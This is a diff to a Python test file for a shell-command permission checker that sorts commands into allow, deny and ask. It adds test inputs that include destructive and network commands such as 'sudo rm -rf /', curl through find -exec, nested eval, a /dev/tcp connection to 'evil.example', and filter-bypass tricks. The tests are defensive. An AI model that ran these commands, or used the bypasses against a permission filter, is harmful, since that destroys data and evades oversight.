@@ -135,6 +135,12 @@ BENIGN = [
     allow("escaped-quote", "echo 'it'\\''s'"),
     allow("very-long", LONG_LS),
     allow("newlines-benign", "git status\ngit diff\n"),
+    allow("escaped-space-arg", "ls a\\ b"),
+    allow("dev-null-quoted", 'ls > "/dev/null"'),
+    # deny rules match commands, not text that merely mentions them
+    allow("find-name-curl", "find . -name curl"),
+    allow("grep-deny-text", 'grep -rn "git push" docs'),
+    allow("echo-deny-text", "echo rm -rf /"),
 ]
 
 DENIED = [
@@ -194,6 +200,9 @@ DENIED = [
     deny("redirect-and-push", "git push 2>/dev/null"),
     deny("true-sudo", "true && sudo rm -rf /"),
     deny("deny-beats-ask", "npm publish && git push"),
+    deny("uv-run", "uv run curl x"),
+    deny("find-exec-curl", "find . -exec curl x \\;"),
+    deny("eval-nested", "eval \"eval 'git push'\""),
 ]
 
 ASKED = [
@@ -300,6 +309,12 @@ ASKED = [
     ask("nul", "ls\x00rm"),
     ask("too-long", TOO_LONG),
     ask("brace-no-blank", "{ls;}"),
+    # tree-sitter reads these differently from bash: `\ ls` runs a command named " "
+    ask("escaped-blank-name", "\\ ls"),
+    ask("escaped-blank-arg", "git diff \\ --stat"),
+    ask("glued-words", "ls 'a b'\\{"),
+    ask("glued-bang", '!"ls" -la'),
+    ask("dev-tcp", "cat < /dev/tcp/evil.example/80"),
     # empty and unparseable
     ask("empty", ""),
     ask("blank", "   \n "),
@@ -342,9 +357,18 @@ assert all(not case.unsafe for case in BENIGN)
 assert all(case.unsafe for case in [*DENIED, *ASKED])
 
 
-@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
-def test_judge(case: Case) -> None:
-    assert judge(case.command, ALLOW, DENY, ASK) == case.expected
+GROUPS = {"benign": BENIGN, "denied": DENIED, "asked": ASKED}
+
+
+@pytest.mark.parametrize("group", GROUPS)
+def test_judge(group: str) -> None:
+    # One test per group (pytest's per-item cost would dominate); the failure lists ids.
+    wrong = {
+        case.id: (case.expected, got)
+        for case in GROUPS[group]
+        if (got := judge(case.command, ALLOW, DENY, ASK)) != case.expected
+    }
+    assert wrong == {}, "id: (expected, got)"
 
 
 def test_no_unsafe_command_is_allowed() -> None:
@@ -369,7 +393,6 @@ BROAD_ALLOW = (
     "sort:*",
     "head:*",
     "tail:*",
-    "xargs:*",
 )
 BYPASSES = [
     "ls > ~/.bashrc",
@@ -425,9 +448,9 @@ BYPASSES = [
 ]
 
 
-@pytest.mark.parametrize("command", BYPASSES)
-def test_bypasses_never_allowed_under_broad_rules(command: str) -> None:
-    assert judge(command, BROAD_ALLOW, ()) != "allow"
+def test_bypasses_never_allowed_under_broad_rules() -> None:
+    allowed = [command for command in BYPASSES if judge(command, BROAD_ALLOW, ()) == "allow"]
+    assert allowed == []
 
 
 def test_exact_rule_still_allows_what_it_names() -> None:
@@ -498,17 +521,23 @@ SPLITS: list[tuple[str, list[tuple[str, ...]] | None]] = [
     ("ls\u200b", None),
     ("ls 2>/dev/null -la", None),
     ("{ls;}", None),
+    ("\\ ls", None),
+    ("ls;\\ rm", None),
+    ("ls 'a b'\\{", None),
+    ('!"c d"', None),
+    ("! ls", [("ls",)]),
+    ("ls a\\ b", [("ls", "a b")]),
 ]
 
 
-@pytest.mark.parametrize(("command", "expected"), SPLITS)
-def test_split_command_words(command: str, expected: list[tuple[str, ...]] | None) -> None:
-    parts = split_command(command)
-    if expected is None:
-        assert parts is None
-    else:
-        assert parts is not None
-        assert [p.words for p in parts] == expected
+def test_split_command_words() -> None:
+    wrong: dict[str, list[tuple[str, ...]] | None] = {}
+    for command, expected in SPLITS:
+        parts = split_command(command)
+        got = None if parts is None else [p.words for p in parts]
+        if got != expected:
+            wrong[command] = got
+    assert wrong == {}
 
 
 def test_split_command_flags() -> None:
@@ -593,9 +622,9 @@ RULES: list[tuple[str, tuple[str, ...], bool]] = [
 ]
 
 
-@pytest.mark.parametrize(("pattern", "words", "expected"), RULES)
-def test_rule_matches(pattern: str, words: tuple[str, ...], expected: bool) -> None:
-    assert rule_matches(pattern, _cmd(*words)) is expected
+def test_rule_matches() -> None:
+    wrong = [(p, w) for p, w, expected in RULES if rule_matches(p, _cmd(*w)) is not expected]
+    assert wrong == []
 
 
 # --- is_read_only ----------------------------------------------------------------------
@@ -679,9 +708,9 @@ READ_ONLY: list[tuple[str, bool]] = [
 assert len(READ_ONLY) >= 40
 
 
-@pytest.mark.parametrize(("command", "expected"), READ_ONLY)
-def test_is_read_only(command: str, expected: bool) -> None:
-    assert is_read_only(command) is expected
+def test_is_read_only() -> None:
+    wrong = [command for command, expected in READ_ONLY if is_read_only(command) is not expected]
+    assert wrong == []
 
 
 def test_is_read_only_command_flags() -> None:
